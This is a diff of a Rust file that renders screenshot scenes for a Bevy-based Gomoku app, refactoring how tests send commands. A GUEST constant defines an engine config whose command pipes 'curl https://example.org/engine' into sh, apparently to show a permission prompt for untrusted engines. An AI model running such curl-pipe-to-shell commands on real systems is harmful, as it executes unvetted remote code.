@@ -5,15 +5,13 @@
 use std::path::PathBuf;
 use std::time::{Duration, UNIX_EPOCH};
 
-use app::{
-    Analysis, AppCommand, AppearanceCommand, Archive, Chair, EditCommand, Intent, KeyboardCursor,
-    Language, Manners, Page, Puzzles, SeatHandle, Session, SheetCommand, Standing,
-};
+use app::{AppCommand, Chair, KeyboardCursor, Motion, Page, SheetCommand};
 use bevy::camera::{ImageRenderTarget, RenderTarget};
 use bevy::prelude::*;
 use bevy::render::RenderPlugin;
 use bevy::render::render_resource::TextureFormat;
 use bevy::render::view::window::screenshot::{Screenshot, ScreenshotCaptured};
+use game::{Archive, EditCommand, Intent, Language, Setting, Standing};
 use image::imageops::FilterType;
 use image::{DynamicImage, RgbImage};
 use player::Speaker;
@@ -230,8 +228,8 @@ const SCENES: [Scene; 29] = [
 ];
 
 fn dress(app: &mut App, theme: &str) {
-    let theme = AppearanceCommand::Theme(theme.into());
-    app.world_mut().write_message(AppCommand::from(theme));
+    let theme = Setting::Theme(theme.into());
+    send(app, Intent::Set(theme));
 }
 
 /// A comment while it is written.
@@ -241,13 +239,14 @@ fn comment(app: &mut App) {
     type_text(app, "Now Black has to answer.");
 }
 
-/// The question about an engine that a file in the working folder names.
+/// A file in the working folder that names an engine.
+const GUEST: &str = "[players.guest]\nkind = \"gomocup\"\nname = \"Guest\"\n\
+                     engine.command = [\"sh\", \"-c\", \"curl https://example.org/engine | sh\"]\n\
+                     engine.folder = \"engines\"\n";
+
+/// The question about that engine.
 fn ask_for_permission(app: &mut App) {
-    let guest = "[players.guest]\nkind = \"gomocup\"\nname = \"Guest\"\n\
-                 engine.command = [\"sh\", \"-c\", \"curl https://example.org/engine | sh\"]\n\
-                 engine.folder = \"engines\"\n";
     play_some(app);
-    app.insert_resource(crate::permission::book_of(guest));
     intend(app, Intent::Replace(Side::Second, "guest".into()));
 }
 
@@ -261,8 +260,7 @@ fn set_up(app: &mut App) {
         ("m12", Stone::Black),
     ];
     for (stone, color) in stones {
-        let command = EditCommand::Put(point(stone), color);
-        app.world_mut().write_message(AppCommand::from(command));
+        send(app, Intent::Edit(EditCommand::Put(point(stone), color)));
     }
     app.update();
     let place = place_of_point(app, point("e11"));
@@ -280,35 +278,37 @@ fn watch(app: &mut App) {
 
 /// Where the games of a picture are kept while it is drawn.
 #[derive(Resource)]
-struct Kept(#[expect(dead_code, reason = "it is removed when it is dropped")] tempfile::TempDir);
+struct Kept(tempfile::TempDir);
 
 fn list_games(app: &mut App) {
-    let folder = tempfile::tempdir().expect("a folder");
+    let folder = app.world().resource::<Kept>().0.path().to_owned();
     let then = UNIX_EPOCH + Duration::from_secs(1_767_268_800);
-    let keep = |app: &App, number: u64| {
-        let file = folder.path().join(format!("{number}.json"));
-        let text = session(app).record().to_text();
+    let mut games = Vec::new();
+    play_some(app);
+    games.push(session(app).record().to_text());
+    intend(app, Intent::Restart);
+    win(app);
+    games.push(session(app).record().to_text());
+    app.update();
+    // Instead of those that were kept today.
+    for kept in std::fs::read_dir(&folder).expect("it is there") {
+        let _ = std::fs::remove_file(kept.expect("an entry").path());
+    }
+    for (number, text) in (1..).zip(games) {
+        let file = folder.join(format!("{number}.json"));
         std::fs::write(&file, text).expect("it can be written");
         let file = std::fs::File::options().append(true).open(file);
         let time = then + Duration::from_secs(86_400 * number);
         file.and_then(|file| file.set_modified(time))
             .expect("it can be dated");
-    };
-    play_some(app);
-    keep(app, 1);
-    intend(app, Intent::Restart);
-    win(app);
-    keep(app, 2);
-    app.insert_resource(Archive::at(folder.path().to_owned()));
-    app.insert_resource(Kept(folder));
+    }
     open(app, Page::Games);
     tap(app, KeyCode::Tab);
     tap(app, KeyCode::Tab);
 }
 
 fn read_log(app: &mut App) {
-    let mut seats = app.world_mut().query::<&SeatHandle>();
-    for seat in seats.iter(app.world()) {
+    for seat in game(app).seats().iter() {
         let console = seat.console();
         console.log(Speaker::Manager, "START 15");
         console.log(Speaker::Engine, "OK");
@@ -329,7 +329,7 @@ fn puzzle(app: &mut App, text: &str, moves: &[&str]) {
     let folder = tempfile::tempdir().expect("a folder");
     let file = folder.path().join("some.jsonl");
     std::fs::write(&file, text.replace('\n', "")).expect("it can be written");
-    app.world_mut().write_message(AppCommand::OpenGame(file));
+    send(app, Intent::OpenGame(file));
     app.update();
     for stone in moves {
         let answered = ply(app) + 2;
@@ -337,7 +337,7 @@ fn puzzle(app: &mut App, text: &str, moves: &[&str]) {
         update_until(app, "the answer", |app| ply(app) == answered);
     }
     update_until(app, "a verdict", |app| {
-        let standing = app.world().resource::<Puzzles>().standing(session(app));
+        let standing = game(app).puzzles().standing(session(app));
         !matches!(standing, Some(Standing::Judging | Standing::Posed(None)))
     });
 }
@@ -356,22 +356,19 @@ fn forbid(app: &mut App) {
 /// An analysis that has nothing more to find: White has one move.
 fn analyse(app: &mut App) {
     play(app, &["h8", "g8", "i8", "i9", "j8", "j7", "k8"]);
-    let nodes = session(app).tree().walk().collect::<Vec<_>>();
-    for (&node, black) in nodes[1..].iter().zip([0.5, 0.55, 0.62, 0.6, 0.9, 0.7, 1.0]) {
-        let line = vec![point("l8")];
+    for (ply, black) in (1..).zip([0.5, 0.55, 0.62, 0.6, 0.9, 0.7, 1.0]) {
         let evaluation = Evaluation {
             black,
             proven: None,
-            line,
+            line: vec![point("l8")],
             depth: 99,
         };
-        app.world_mut()
-            .resource_mut::<Session>()
-            .evaluate(node, evaluation);
+        let intent = knowing(session(app), ply, evaluation);
+        intend(app, intent);
     }
-    app.world_mut().resource_mut::<Analysis>().toggle();
+    send(app, Intent::ToggleAnalysis);
     update_until(app, "the only move", |app| {
-        let analysis = app.world().resource::<Analysis>();
+        let analysis = game(app).analysis();
         analysis.progress().is_some() && !analysis.is_thinking()
     });
 }
@@ -397,12 +394,21 @@ fn draw(scene: &Scene) -> DynamicImage {
         synchronous_pipeline_compilation: true,
         ..default()
     };
-    let mut app = window_app(scene.language, lineup, (window, scene.scale), render);
+    let folder = tempfile::tempdir().expect("a folder");
+    let book = if scene.name.starts_with("permission") {
+        crate::permission::book_of(GUEST)
+    } else {
+        book()
+    };
+    let mut game = game_plugin(book, lineup, false);
+    game.archive = Archive::at(folder.path().to_owned());
+    let mut app = window_app(game, scene.language, (window, scene.scale), render);
+    app.insert_resource(Kept(folder));
     let size = (window * scene.scale).as_uvec2();
     let image = Image::new_target_texture(size.x, size.y, TextureFormat::Rgba8UnormSrgb, None);
     let target = app.world_mut().resource_mut::<Assets<Image>>().add(image);
     app.init_resource::<Captured>();
-    app.world_mut().resource_mut::<Manners>().animation = false;
+    app.world_mut().resource_mut::<Motion>().0 = false;
     app.update();
     let mut cameras = app.world_mut().query_filtered::<Entity, With<Camera2d>>();
     let camera = cameras.single(app.world()).expect("there is a camera");
